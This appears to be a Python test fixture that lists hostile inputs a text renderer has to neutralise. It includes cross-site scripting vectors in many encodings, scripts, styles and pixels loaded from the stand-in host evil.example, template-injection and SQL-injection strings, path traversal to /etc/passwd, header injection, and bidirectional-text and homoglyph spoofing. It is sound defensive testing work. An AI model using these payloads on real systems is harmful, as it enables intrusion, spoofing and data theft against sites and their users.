"""Texts that want to be more than text: put into every field, none of them may do anything.

Each has a note that says what it tries. `MARK` stands in those that would run something, so that a
page can be searched for what must not have happened: a script that ran would have set it.
"""

from typing import NamedTuple

MARK = "brennerWasHere"
_RUN = f"window.{MARK}=1"
# Every character that turns the direction of a text, and one word turned by each
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
CONTROLS = "".join(map(chr, (*range(1, 9), 11, 12, *range(14, 32), *range(127, 160))))
HIDDEN = (
    "\u00ad\u034f\u115f\u180e\u200b\u2028\u2029\u2060\u2061\u206a\ufeff\ufff9\U000e0001\U000e0041"
)


class Hostile(NamedTuple):
    """A text, and what it tries. `is_line` says that it fits on one line, as a subject must."""

    note: str
    text: str

    @property
    def is_line(self) -> bool:
        """Whether it can stand where only one line can."""
        return "\n" not in self.text and "\r" not in self.text


NOTED: tuple[Hostile, ...] = (
    # Markup that runs
    Hostile("a script", f"<script>{_RUN}</script>"),
    Hostile("a script in capitals", f"<SCRIPT >{_RUN}</SCRIPT\t>"),
    Hostile("a script from elsewhere", "<script src=//evil.example/x.js></script>"),
    Hostile("a script in a script", f"<scr<script>ipt>{_RUN}</scr</script>ipt>"),
    Hostile("out of a title", f"</title></head><body onload={_RUN}>"),
    Hostile("out of a text field", f"</textarea></script><script>{_RUN}</script>"),
    Hostile("out of an attribute", f'" autofocus onfocus="{_RUN}'),
    Hostile("out of a quoted attribute", f"' onmouseover='{_RUN}"),
    Hostile("out of an attribute without quotes", f"x onclick={_RUN} "),
    Hostile("out of a comment", f"--><script>{_RUN}</script><!--"),
    Hostile("an image that fails", f"<img src=x onerror={_RUN}>"),
    Hostile("a body that loads", f"<body onload={_RUN}>"),
    Hostile("details that open", f"<details open ontoggle={_RUN}><summary>x</summary></details>"),
    Hostile("a frame", f"<iframe src=\"javascript:{_RUN}\" srcdoc='<script>{_RUN}</script>'>"),
    Hostile("an object", f'<object data="javascript:{_RUN}"></object><embed src=x>'),
    Hostile("a form", '<form action=//evil.example><button formaction="//evil.example">x'),
    Hostile("a base address", '<base href="//evil.example/">'),
    Hostile("a refresh", '<meta http-equiv=refresh content="0;url=//evil.example">'),
    Hostile("attributes that htmx obeys", '<b hx-get="/lab" hx-trigger="load" hx-on:load="x()">'),
    Hostile("an id of ours", '<div id="main" name="main" class="skip" data-step>x</div>'),
    # SVG and MathML
    Hostile("a drawing", f"<svg onload={_RUN}><script>{_RUN}</script></svg>"),
    Hostile("a drawing that moves", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>"),
    Hostile("a drawing with a link", f'<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a>'),
    Hostile("a formula", f'<math><a xlink:href="javascript:{_RUN}">x</a></math>'),
    Hostile("from a formula into markup", "<math><mtext><table><mglyph><style><!--</style><img>"),
    Hostile("foreign markup in a drawing", f"<svg><style><img src=x onerror={_RUN}></style></svg>"),
    Hostile("markup that never runs but parses", f"<noscript><p title='</noscript><img {_RUN}>'>"),
    # Style
    Hostile("a style", "<style>*{display:none}</style>"),
    Hostile("a style that calls out", '<b style="background:url(//evil.example/x)">x</b>'),
    Hostile("a sheet from elsewhere", "<link rel=stylesheet href=//evil.example/x.css>"),
    Hostile("a style in a value", "red;}*{display:none} /*"),
    Hostile("an import", "@import url(//evil.example/x.css);"),
    # Links, in every spelling
    Hostile("a link that runs", f"[x](javascript:{_RUN})"),
    Hostile("in capitals", f"[x](JaVaScRiPt:{_RUN})"),
    Hostile("with a blank before", f"[x]( javascript:{_RUN})"),
    Hostile("in angle brackets", f"[x](<javascript:{_RUN}>)"),
    Hostile("with a tab inside", f"[x](<java\tscript:{_RUN}>)"),
    Hostile("with a line inside", f"[x](java\nscript:{_RUN})"),
    Hostile("with a control character before", f"[x](\x01javascript:{_RUN})"),
    Hostile("with entities", f"[x](&#106;avascript&colon;{_RUN})"),
    Hostile("with a tab as an entity", f"[x](java&Tab;script:{_RUN})"),
    Hostile("with numbers without semicolons", f"[x](&#0000106avascript:{_RUN})"),
    Hostile("with backslashes", f"[x](javascript\\:{_RUN})"),
    Hostile("as a percent code", f"[x](javascript%3A{_RUN})"),
    Hostile("as an autolink", f"<javascript:{_RUN}>"),
    Hostile("as a reference", f"[x][1]\n\n[1]: javascript:{_RUN}"),
    Hostile("as an image", f"![x](javascript:{_RUN})"),
    Hostile("another language", "[x](vbscript:msgbox)"),
    Hostile("a page in a link", f"[x](data:text/html,<script>{_RUN}</script>)"),
    Hostile("a page in a link, encoded", "[x](data:text/html;base64,PHNjcmlwdD54PC9zY3JpcHQ+)"),
    Hostile("a drawing as an image", "![x](data:image/svg+xml,<svg/onload=x>)"),
    Hostile("a file", "[x](file:///etc/passwd)"),
    Hostile("a link into the lab", "[look](/lab/sessions/x/complete)"),
    Hostile("a link without a scheme", "[x](//evil.example)"),
    Hostile("a link that looks like another", "[https://brenner.example](https://evil.example)"),
    Hostile("a link with a name before the host", "[x](https://brenner.example@evil.example/)"),
    Hostile("a link with letters of another script", "[x](https://brеnner.example)"),
    Hostile("a link out of its attribute", '[x](https://evil.example/"onmouseover="x)'),
    Hostile("a title out of its attribute", "[x](https://evil.example 'a\" onmouseover=\"x')"),
    Hostile("a picture from elsewhere", "![tracker](https://evil.example/pixel.gif)"),
    Hostile("a link around a picture", "[![a](https://evil.example/a)](javascript:x)"),
    # Templates, entities, other programs
    Hostile("a template", "{{ 7*7 }} {% raw %} {# x #} ${7*7} #{7*7} <%= 7*7 %>"),
    Hostile("a template that reaches out", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    Hostile("places to be filled in", "{0} {name} %s %(name)s {thread_id!r} $name"),
    Hostile("entities", "&lt;script&gt; &amp;lt; &#60;b&#62; &quot; &#x202e; &NewLine; &nbsp;"),
    Hostile("an entity without an end", "&lt &copy &#x3c script"),
    Hostile("a statement", "'; DROP TABLE messages; --"),
    Hostile("a path", "../../../../etc/passwd\\..\\..%2e%2e%2f"),
    Hostile("headers", "x\r\nSet-Cookie: a=b\r\n\r\n<b>"),
    Hostile("an event", "data: x\nevent: brenner\nid: 9\n\n"),
    Hostile(
        "the end of a data section", "]]> <![CDATA[ <?xml ?> <!DOCTYPE html [<!ENTITY x 'y'>]>"
    ),
    # What cannot be seen
    Hostile("turned text", f"invoice{BIDI[7]}gpj.exe{BIDI[5]}"),
    Hostile("every mark of direction", "x".join(BIDI)),
    Hostile("marks of direction that nobody closes", f"a{BIDI[7]}{BIDI[9]}b"),
    Hostile("control characters", f"a{CONTROLS}b"),
    Hostile("an escape of a terminal", "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m"),
    Hostile("characters without a shape", f"a{'b'.join(HIDDEN)}c"),
    Hostile("a mark at the beginning", "\ufeff# Title"),
    Hostile("joiners of emoji and scripts", "👩\u200d🔬 👨‍👩‍👧‍👦 क्\u200dष می\u200cخواهم 🏴\u200d☠️"),
    Hostile("letters with many marks", "Z" + "\u0351\u0363\u036b" * 40 + "algo"),
    Hostile("what is no character yet", "\u0378\ue000\U000f0000\uffff"),
    # Size and structure
    Hostile("an enormous word", "W" * 5_000),
    Hostile("an enormous word with marks", "ẃ\u0323" * 2_000),
    Hostile("unclosed everything", "**a *b `c [d](e ![f](g <h ~~i \\ &j ``` k | l > m # n"),
    Hostile("an unclosed fence", "~~~~delta\n{"),
    Hostile("an unclosed block of markup", "<div><table><tr><td><select><option>"),
    Hostile("the end of what is around", "</div></main></body></html></p></li></ul></td></table>"),
    Hostile("nested quotations", "> " * 1_000 + "deep"),
    Hostile("nested lists", "- " * 1_000 + "deep"),
    Hostile("nested emphasis", "*a **b " * 600 + "x"),
    Hostile("nested brackets", "[" * 2_000 + "x" + "]" * 2_000),
    Hostile("many pictures begun", "![" * 1_500),
    Hostile("a table of many columns", "|" * 300 + "\n" + "|-" * 300 + "|\n" + "|x\n" * 20),
    Hostile("headings and rules", "# a\n\na\n===\n\n---\n\n###### b\n\n* * *"),
    Hostile("a block of deltas in a quotation", '> ```delta\n> {"operation": "ADD"}\n> ```'),
    Hostile("only blanks", " \t \u00a0 \u3000 "),
    Hostile("nothing", ""),
)
HOSTILE: tuple[str, ...] = tuple(each.text for each in NOTED)
# Those that can be a subject, a name, a title
LINES: tuple[str, ...] = tuple(each.text for each in NOTED if each.is_line and each.text.strip())
# Those that a mailbox takes: half a character and NUL are refused at the door of every home
WITH_NUL = ("a\0b", "<scr\0ipt>", "[x](java\0script:x)")
